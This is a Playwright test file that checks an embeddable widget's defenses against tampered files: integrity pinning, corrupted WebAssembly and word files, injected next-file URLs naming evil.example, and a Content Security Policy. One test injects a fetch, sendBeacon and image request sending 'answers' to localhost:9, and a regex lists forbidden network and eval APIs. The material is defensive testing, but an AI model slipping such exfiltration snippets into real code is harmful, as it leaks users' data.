// Files of the widget that are not those of its build, and what the module could do if it wanted to.

import { createHash } from "node:crypto";

import { expect, test } from "@playwright/test";

import { WORDS, organization } from "./steps/content.js";
import { LEANS, answerAll, button, heading } from "./steps/flow.js";
import { fullDraft, openAt } from "./steps/full.js";
import { SCRIPT, complaints, element, openHost, ready } from "./steps/host.js";
import { keep } from "./steps/drafts.js";

/** @typedef {import("@playwright/test").Page} Page */

// A file may still be on its way when a test ends.
test.afterEach(({ page }) => page.unrouteAll({ behavior: "wait" }));

const { missing: MISSING, retry: RETRY } = WORDS.ui.later;

const FALLBACK = "<p>The questions on paper</p>";

/** @param {string} integrity */
const pinned = (integrity) =>
  `<script type="module" src="/widget/support-fit.js" integrity="${integrity}"></script>
  <support-fit loading="eager">${FALLBACK}</support-fit>`;

test.describe("a page that pins the loader", () => {
  test("runs the loader of that value", async ({ page }) => {
    const loader = await (await page.request.get("/widget/support-fit.js")).body();
    const value = createHash("sha384").update(loader).digest("base64");
    await openHost(page, pinned(`sha384-${value}`));
    await ready(page);
  });

  test("runs no other one, and shows its own text", async ({ page }) => {
    const found = complaints(page);
    const value = createHash("sha384").update("another loader").digest("base64");
    await openHost(page, pinned(`sha384-${value}`));
    await expect(page.getByText("The questions on paper")).toBeVisible();
    await expect.poll(() => found.join()).toMatch(/integrity/i);
    expect(await page.evaluate(() => customElements.get("support-fit"))).toBeUndefined();
  });
});

/**
 * Changes a file on its way.
 *
 * @param {Page} page
 * @param {string} pattern
 * @param {(body: Buffer) => Buffer | string} change
 * @returns Leaves it alone from now on.
 */
async function tamper(page, pattern, change) {
  await page.route(pattern, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: change(await response.body()) });
  });
  return () => page.unroute(pattern);
}

/**
 * Files that come after the first screen, and what may be wrong with them.
 *
 * @type {Record<string, { pattern: string, change: (body: Buffer) => Buffer | string }>}
 */
const LATER = {
  "a module that is cut short": {
    pattern: "**/support-fit-result-*.wasm",
    change: (body) => body.subarray(0, body.length / 2),
  },
  "a module in which bytes are others": {
    pattern: "**/support-fit-result-*.wasm",
    change: (body) => {
      const middle = Math.floor(body.length / 2);
      return Buffer.from(body).fill(0xff, middle, middle + 64);
    },
  },
  "a module that is no module": {
    pattern: "**/support-fit-result-*.wasm",
    change: () => "<!doctype html>",
  },
  "words of another build": {
    pattern: "**/words-result-*.txt",
    change: (body) => `0${body.toString().slice(1)}`,
  },
  "words that are cut short": {
    pattern: "**/words-result-*.txt",
    change: (body) => body.subarray(0, body.length / 2),
  },
  "words with a line more": {
    pattern: "**/words-result-*.txt",
    change: (body) => `${body}\nmore`,
  },
};

for (const [what, { pattern, change }] of Object.entries(LATER)) {
  test(`${what} is not used, and the result can be asked for again`, async ({ page }) => {
    const repair = await tamper(page, pattern, change);
    await page.goto("/widget/");
    await answerAll(page, LEANS);
    await expect(page.getByText(MISSING).first()).toBeVisible();
    await expect(element(page)).toHaveJSProperty("status", "ready");
    await repair();
    await button(page, RETRY).first().click();
    await expect(heading(page, "lean one way")).toBeVisible();
  });
}

for (const name of [
  "https://evil.example/words.txt",
  "//evil.example/words.txt",
  "../../words.txt",
  "data:text/plain,x",
]) {
  test(`words that name ${name} as the next file lead nowhere`, async ({ page }) => {
    /** @type {string[]} */
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    await tamper(page, "**/words-en-*.txt", (body) =>
      body.toString().replace(/words-result-[^\n]*/, name),
    );
    await page.goto("/widget/");
    await answerAll(page, LEANS);
    await expect(page.getByText(MISSING).first()).toBeVisible();
    expect(asked.filter((url) => /evil|data:|\/words\.txt/.test(url))).toEqual([]);
  });
}

test("a page whose policy names the widget alone stops what a changed widget would send", async ({
  page,
}) => {
  /** @type {string[]} */
  const asked = [];
  page.on("requestfinished", (request) => asked.push(request.url()));
  await tamper(
    page,
    "**/assets/support-fit-*.js",
    (body) =>
      `${body};fetch("http://localhost:9/?answers").catch(()=>{});navigator.sendBeacon("http://localhost:9/?answers");new Image().src="http://localhost:9/?answers"`,
  );
  const found = complaints(page);
  await openHost(page, `<support-fit loading="eager"></support-fit>${SCRIPT}`);
  await ready(page);
  await expect
    .poll(() => found.filter((text) => /Content Security Policy/i.test(text)).length)
    .toBeGreaterThan(1);
  expect(asked.filter((url) => url.includes(":9"))).toEqual([]);
});

test.describe("the WebAssembly", () => {
  /**
   * Members of the browser's objects that these imports name, of four letters or more. Whoever adds one looks at what the
   * module can do with it.
   */
  const MEMBERS = `
    DateTimeFormat ListFormat Locale NumberFormat PluralRules __indirect_function_table _wbg_cb_unref
    addEventListener allSettled block bottom call cancelBubble checked click clipboard cloneNode close
    composedPath createComment createElement createElementNS createObjectURL createTextNode
    deleteProperty document download entries files focus format from fromEntries getBoundingClientRect
    getItem getTime getTimezoneOffset hasAttribute host href innerHeight insertBefore isArray length
    localStorage location maximize name nodeValue parentNode parse preventDefault preventScroll push
    querySelector queueMicrotask region remove removeAttribute removeEventListener removeItem
    requestAnimationFrame resolve revokeObjectURL scrollIntoView select setAttribute setFloat64 setInt32
    setItem setTimeout showModal size stringify tagName target text then toISOString type value warn
    writeText`
    .trim()
    .split(/\s+/);

  /** What none of its imports may be made of. */
  const FORBIDDEN =
    /fetch|XMLHttp|WebSocket|EventSource|sendBeacon|RTC|WebTransport|importScripts|Worker|eval|Function\(|innerHTML|outerHTML|insertAdjacent|document\.write|srcdoc|cookie|indexedDB|postMessage|open\(/;

  /**
   * What the modules of a page were given.
   *
   * @param {Page} page
   */
  async function imports(page) {
    await page.addInitScript(() => {
      /** @type {{ namespaces: string[], kinds: string[], sources: string[] }[]} */
      const given = [];
      Object.assign(window, { given });
      for (const name of /** @type {const} */ (["instantiate", "instantiateStreaming"])) {
        const method = /** @type {any} */ (WebAssembly)[name];
        /** @type {any} */ (WebAssembly)[name] = (
          /** @type {any} */ source,
          /** @type {any} */ object,
        ) => {
          const values = Object.values(object).flatMap((part) => Object.values(part));
          given.push({
            namespaces: Object.keys(object),
            kinds: [...new Set(values.map((value) => Object.prototype.toString.call(value)))],
            sources: values.filter((value) => typeof value === "function").map(String),
          });
          return method.call(WebAssembly, source, object);
        };
      }
    });
    await keep(page, fullDraft(organization("P2"), { screen: "result" }));
    await page.goto("/widget/");
    await openAt(page, "result", organization("P2"));
    return page.evaluate(
      () =>
        /** @type {{ namespaces: string[], kinds: string[], sources: string[] }[]} */ (
          /** @type {any} */ (window).given
        ),
    );
  }

  test("is given nothing that sends, loads from an address, or makes HTML or scripts of texts", async ({
    page,
  }) => {
    const [application, ...later] = await imports(page);
    expect(application?.sources.length).toBeGreaterThan(50);
    expect(application?.kinds.sort()).toEqual(["[object AsyncFunction]", "[object Function]"]);
    const written = application?.sources.filter((source) => !source.includes("[native code]"));
    expect(written?.filter((source) => FORBIDDEN.test(source))).toEqual([]);
    // The parts that come later have what the application has, and nothing of their own.
    expect(later.length).toBeGreaterThan(2);
    for (const { namespaces } of later) expect(namespaces).toEqual(["__wasm_split"]);
  });

  test("is given exactly what is written down here", async ({ page }) => {
    const [application] = await imports(page);
    const called = new Set(
      application?.sources.flatMap((source) =>
        [...source.matchAll(/\.([a-zA-Z_]\w{3,})/g)].map(([, name]) => name),
      ),
    );
    expect([...called].sort()).toEqual(MEMBERS);
  });
});
